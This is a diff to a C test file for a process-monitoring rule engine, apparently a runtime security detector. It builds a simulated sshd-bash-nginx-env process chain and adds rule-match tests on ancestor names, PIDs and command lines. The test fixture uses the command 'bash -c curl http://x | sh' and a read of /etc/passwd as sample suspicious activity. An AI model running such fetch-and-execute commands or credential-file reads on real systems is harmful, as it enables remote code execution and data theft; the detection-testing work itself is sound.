@@ -8,14 +8,29 @@
 
 #include "expr.h"
 #include "expr/kernel_model.h"
-#include "identity/process.h"
+#include "life.h"
 
 #define ARGV "bash\0-c\0curl http://x | sh"
 
-static const struct process parent = { .exe = "/usr/sbin/sshd", .cwd = "/", .args = "sshd\0-D", .args_len = 8, .args_known = true };
-static const struct process process = {
-	.exe = "/usr/bin/bash", .cwd = "/root", .args = ARGV, .args_len = sizeof(ARGV), .args_known = true,
-};
+static struct process_table table;
+
+/* sshd -> bash -> nginx -> env, which became the bash of record_begin; nginx ended and sshd adopted it. */
+static const struct process *family(void)
+{
+	const struct being sshd = { 1, RECORD_SECOND }, bash = { 200, 2ULL * RECORD_SECOND }, nobody = { 0 };
+	const struct being nginx = { 300, 3ULL * RECORD_SECOND }, self = { RECORD_PID, RECORD_START };
+
+	if (!table.slots) {
+		cr_assert_eq(process_table_init(&table, PROCESS_BYTES_MIN), 0);
+		life_exec(&table, sshd, nobody, "sshd", "/usr/sbin/sshd", "sshd\0-D", 8);
+		life_spawn(&table, sshd, bash, "bash", "/usr/bin/bash", "-bash", 6);
+		life_spawn(&table, bash, nginx, "nginx: worker", "/usr/sbin/nginx", "nginx\0-g\0x y", 13);
+		life_spawn(&table, nginx, self, "env", "/usr/bin/env", "env\0bash", 9);
+		life_exit(&table, nginx, RECORD_TIME);
+		life_exec(&table, self, sshd, "bash", "/usr/bin/bash", ARGV, sizeof(ARGV));
+	}
+	return process_find(&table, &(struct who){ .host_pid = RECORD_PID, .proc_leader_start = RECORD_START });
+}
 
 typedef void make(struct record *r);
 
@@ -243,6 +258,24 @@ static const struct { make *make; bool want; const char *text; } rows[] = {
 	{ record_openat, true, "proc.args intersects (-c) and proc.args contains '-c curl'" },
 	{ record_openat, true, "proc.cwd = /root" },
 	{ record_openat, true, "proc.pname = sshd and proc.pexe = /usr/sbin/sshd and proc.pcmdline = 'sshd -D'" },
+	{ record_openat, true, "proc.exec_chain = /usr/bin/env and proc.prev_exe = /usr/bin/env" },
+	{ record_openat, true, "proc.exe_dev = 8:3 and proc.exe_ino = 4711 and proc.exe_ino.ctime exists" },
+	{ record_openat, true, "proc.is_exe_upper_layer = false and proc.is_exe_from_memfd = false" },
+	{ record_openat, true, "proc.duration > 10s and proc.duration < 11s and proc.ppid.duration > 99s" },
+	/* Ancestors: who started whom. */
+	{ record_openat, true, "proc.aname[1] = 'nginx: worker' and proc.aname[2] = bash and proc.aname[3] = sshd" },
+	{ record_openat, true, "proc.aname[0] = cat and proc.apid[0] = 4242 and proc.aexe[0] = /usr/bin/bash" },
+	{ record_openat, false, "proc.aname[4] exists or proc.apid[4] exists or proc.aexe[64] exists" },
+	{ record_openat, true, "proc.aexe[1] = /usr/sbin/nginx and proc.aexepath[2] endswith bash" },
+	{ record_openat, true, "proc.apid[1] = 300 and proc.apid[2] in (200, 201) and proc.apid[3] < 2" },
+	{ record_openat, true, "proc.acmdline[1] = 'nginx -g x y' and proc.acmdline[3] = 'sshd -D'" },
+	{ record_openat, true, "proc.aname in (sshd) and proc.aname in (httpd, 'nginx: worker')" },
+	{ record_openat, true, "proc.aname = bash and proc.aname startswith nginx and proc.aname contains ss" },
+	{ record_openat, false, "proc.aname in (cat, tmux)" },
+	{ record_openat, true, "not proc.aname in (cat, tmux) and proc.aname != cat" },
+	{ record_openat, false, "proc.aname != sshd" },
+	{ record_openat, true, "proc.apid = 200 and proc.apid > 299 and proc.apid != 4242 and proc.aname exists" },
+	{ record_openat, true, "proc.aexe pmatch (/usr/sbin) and proc.acmdline contains ' -g '" },
 	/* Descriptors. */
 	{ record_openat, true, "fd.name = /etc/passwd and fd.num = 3 and fd.type = file and fd.typechar = f" },
 	{ record_openat, true, "fd.filename = passwd and fd.directory = /etc" },
@@ -288,7 +321,7 @@ static const struct { make *make; bool want; const char *text; } rows[] = {
 
 static bool matches(const struct expr *expr, const struct record *r)
 {
-	struct expr_view view = { .record = r, .subject = { .process = &process, .parent = &parent } };
+	struct expr_view view = { .record = r, .subject = { .process = family(), .processes = &table } };
 
 	return expr_match(expr, &view);
 }
